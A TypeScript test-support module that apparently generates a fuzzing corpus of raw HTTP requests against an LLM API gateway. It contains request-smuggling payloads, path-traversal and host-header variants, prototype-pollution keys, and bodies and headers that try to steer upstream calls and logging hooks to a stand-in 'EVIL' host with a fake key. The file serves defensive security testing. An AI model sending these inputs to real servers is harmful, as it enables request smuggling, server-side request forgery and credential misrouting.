import { ENDPOINTS, REALTIME } from '../../src/api/endpoints/endpoints'
import { BROKEN_BODIES, BROKEN_VALUES } from '../support/cases/broken-json'
import { OTHER_HEADERS, PORTKEY_HEADERS } from '../support/cases/header-names'

/** What somebody would have to take for a second request. It has no key, so it may go nowhere. */
const SMUGGLED =
  'POST /v1/chat/completions?smuggled HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n{"model":"fast","user":"/smuggled"} '

const EVIL = 'http://127.0.0.1:9/v1'
const CHAT = '{"model":"fast","messages":[{"role":"user","content":"hi"}]}'
const STREAM = '{"model":"claude","stream":true,"max_tokens":5,"messages":[]}'
const FORM = `--x\r\nContent-Disposition: form-data; name="model"\r\n\r\nfast\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\nContent-Type: audio/wav\r\n\r\n\x00\xff--\r\n--x--\r\n`

const length = (body: string) => `Content-Length: ${body.length}\r\n`
const JSON_TYPE = 'Content-Type: application/json\r\n'

/** One request; text is Latin-1, a character a byte. */
const request = (line: string, head: string, body = '', host = 'Host: a\r\n') =>
  `${line} HTTP/1.1\r\n${host}${head}\r\n${body}`

const chunked = (body: string) => `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`

/** A plain request for every endpoint and page. */
const endpoints = (credential: string) => [
  ...[...ENDPOINTS, REALTIME].flatMap(({ method, path, body }) => {
    const target = path.replace(':id', 'file-abc_1')
    const type = 'Content-Type: multipart/form-data; boundary=x\r\n'
    if (body === 'form')
      return [request(`${method} ${target}`, credential + type + length(FORM), FORM)]
    if (body === 'none') return [request(`${method} ${target}?model=fast&limit=2`, credential)]
    return ['fast', 'claude', 'translated', '__proto__', '../x'].map((model) => {
      const json = `{"model":"${model}","max_tokens":5,"messages":[{"role":"user","content":"hi"}],"input":"x"}`
      return request(`${method} ${target}`, credential + JSON_TYPE + length(json), json)
    })
  }),
  ...['/v1/models', '/v1/models/fast', '/v1/models/a%2fb', '/health', '/openapi.json'].map((path) =>
    request(`GET ${path}`, credential),
  ),
]

const ambiguous = (credential: string) => {
  const post = (head: string, body: string) =>
    request('POST /v1/chat/completions', credential + JSON_TYPE + head, body)
  const codings = ['chunked', ' chunked', 'xchunked', 'chunked, identity', 'identity', 'Chunked']
  return [
    ...[...codings, 'chunked\r\nTransfer-Encoding: x', '\x0bchunked', 'gzip, chunked', '"chunked"']
      .map((coding) => `Transfer-Encoding: ${coding}\r\n`)
      .flatMap((coding) => [
        post(`Content-Length: 4\r\n${coding}`, chunked(CHAT) + SMUGGLED),
        post(`${coding}Content-Length: ${CHAT.length + 20}\r\n`, `0\r\n\r\n${SMUGGLED}`),
        post(coding, chunked(CHAT) + SMUGGLED),
      ]),
    ...['+5', '-1', '0x5', '5, 5', '5 5', '', '18446744073709551621', `${CHAT.length}`].map(
      (size) => post(`Content-Length: ${size}\r\n`, CHAT + SMUGGLED),
    ),
    post(`${length(CHAT)}Content-Length: 0\r\n`, CHAT + SMUGGLED),
    post(`Content-Length : ${CHAT.length}\r\n`, CHAT + SMUGGLED),
    post(`X: a\r\n b\r\n${length(CHAT)}`, CHAT + SMUGGLED),
    post(`X: a\0b\r\n${length(CHAT)}`, CHAT + SMUGGLED),
    ...['0x3c', '0_3', '+3c', ' 3c', '3c ', '3c;a\nb', `3c;${'e'.repeat(3000)}`, 'ZZ', '-1'].map(
      (size) =>
        post('Transfer-Encoding: chunked\r\n', `${size}\r\n${CHAT}\r\n0\r\n\r\n${SMUGGLED}`),
    ),
    post('Transfer-Encoding: chunked\r\n', `3c\n${CHAT}\n0\n\n${SMUGGLED}`),
    post(
      'Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n',
      `${CHAT.length.toString(16)}\r\n${CHAT}\r\n0\r\n${credential}X: y\r\n\r\n`,
    ),
    ...['GET', 'HEAD', 'OPTIONS', 'DELETE'].map((method) =>
      request(`${method} /health`, length(SMUGGLED), SMUGGLED),
    ),
    post(`Expect: 100-continue\r\n${length(CHAT)}`, CHAT),
    post(`Content-Encoding: gzip\r\n${length(CHAT)}`, CHAT),
  ]
}

const targets = (credential: string) =>
  [
    ...[
      '//evil/v1/models',
      'http://evil/v1/models',
      '/V1/models',
      '/v1/models;x',
      '/v1/%zz',
      '/%00',
    ],
    ...[
      '/v1/../health',
      '/v1/%2e%2e/health',
      '/v1/models#/health',
      '*',
      'evil:80',
      '/v1/proxy/models',
    ],
    ...['/v1/files/..', '/v1/files/%2e%2e%2fx', `/v1/files/${'a'.repeat(200)}/content`, '/v1/x\\y'],
  ].flatMap((target) =>
    ['GET', 'POST', 'TRACE', 'CONNECT', 'OPTIONS', 'FOO', 'get'].map((method) =>
      request(`${method} ${target}`, credential + length('{}'), '{}'),
    ),
  )

const hosts = (credential: string) =>
  [
    '',
    'Host: a b\r\n',
    'Host: [::1\r\n',
    'Host: a:99999\r\n',
    'Host: a\r\nHost: b\r\n',
    'Host:\r\n',
  ]
    .concat([
      'Host: a,b\r\n',
      'Host: \xff\r\n',
      'Host: user@a/\r\n',
      `Host: ${'h'.repeat(9000)}\r\n`,
    ])
    .map((host) =>
      request('POST /v1/chat/completions', credential + JSON_TYPE + length(CHAT), CHAT, host),
    )

const STEERING = `{"model":"fast","messages":[],"api_base":"${EVIL}","api_key":"sk-evil","custom_host":"${EVIL}","provider":"google","targets":[{"provider":"openai","custom_host":"${EVIL}"}],"before_request_hooks":[{"default.log":{"logURL":"${EVIL}"}}],"extra_headers":{"x-portkey-custom-host":"${EVIL}"},"__proto__":{"x":1},"constructor":{"prototype":{"y":1}}}`

const bodies = () => [
  ...BROKEN_BODIES,
  ...BROKEN_VALUES.map((value) => `{"model":"fast","x":${value}}`),
  STEERING,
  STREAM,
  ...['null', '1', '[]', '""', '{}', '"a?b#c"', '"\\ud800"', `"${'m'.repeat(600)}"`].map(
    (model) => `{"model":${model}}`,
  ),
  `{"model":"fast","x":${'['.repeat(600)}`,
  `{"model":"fast","x":${'{"a":'.repeat(400)}1${'}'.repeat(400)}}`,
  `{"model":"translated","messages":[${'{},'.repeat(500)}{}]}`,
  `{${Array.from({ length: 1100 }, (_, index) => `"k${index}":1`).join(',')}}`,
  `{"model":"fast","messages":[{"content":"${'x'.repeat(6000)}"}]}`,
]

const steered = (credential: string) =>
  [...PORTKEY_HEADERS, ...OTHER_HEADERS]
    // The credential is the corpus' own business.
    .filter((name) => !/^(authorization|x-api-key|x-portkey-api-key|upgrade)$/.test(name))
    .flatMap((name) =>
      [EVIL, '{"provider":"openai","api_key":"sk-evil"}', 'authorization,x-portkey-config'].map(
        (value) =>
          request(
            'POST /v1/chat/completions',
            `${credential}${name}: ${value}\r\n${JSON_TYPE}${length(CHAT)}`,
            CHAT,
          ),
      ),
    )

const forms = (credential: string) =>
  [
    FORM,
    FORM.replace('"model"', 'model'),
    FORM.replace('--x--', '--x'),
    FORM.replaceAll('\r\n', '\n'),
    FORM.replace('fast', 'a'.repeat(5000)),
    FORM.repeat(2),
    '--x--\r\n',
  ].flatMap((form) =>
    ['boundary=x', 'boundary="x"', 'boundary=', `boundary=${'x'.repeat(80)}`, 'charset=utf-8'].map(
      (parameter) =>
        request(
          'POST /v1/audio/transcriptions',
          `${credential}Content-Type: multipart/form-data; ${parameter}\r\n${length(form)}`,
          form,
        ),
    ),
  )

const sockets = (credential: string) =>
  ['13', '8', 'x'].flatMap((version) =>
    ['realtime', 'realtime, openai-insecure-api-key.x', ',', '\xff'].map((protocol) =>
      request(
        'GET /v1/realtime?model=fast',
        `${credential}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: ${version}\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: ${protocol}\r\n`,
        '\x81\x85\x01\x02\x03\x04abcde\x88\x80\x00\x00\x00\x00',
      ),
    ),
  )

/** Every request there is to begin with, all with the same lines for who sends it. */
export function corpus(credential: string): string[] {
  return [
    ...endpoints(credential),
    ...ambiguous(credential),
    ...targets(credential),
    ...hosts(credential),
    ...bodies().flatMap((body) =>
      ['/v1/chat/completions', '/v1/messages'].map((path) =>
        request(`POST ${path}`, credential + JSON_TYPE + length(body), body),
      ),
    ),
    ...steered(credential),
    ...forms(credential),
    ...sockets(credential),
  ]
}

/** Lines that name no application: nothing, nonsense, and what only looks like a key. */
export const NO_CREDENTIALS: readonly string[] = [
  '',
  'Authorization: Bearer wrong\r\n',
  'Authorization: Bearer \r\n',
  'Authorization: Basic eDp5\r\nx-api-key: __proto__\r\n',
  'x-api-key: \xff\xfe\r\n',
  'Authorization: Bearer a\r\nAuthorization: Bearer b\r\nCookie: authorization=c\r\n',
  `x-portkey-api-key: ${'A'.repeat(4000)}\r\n`,
]
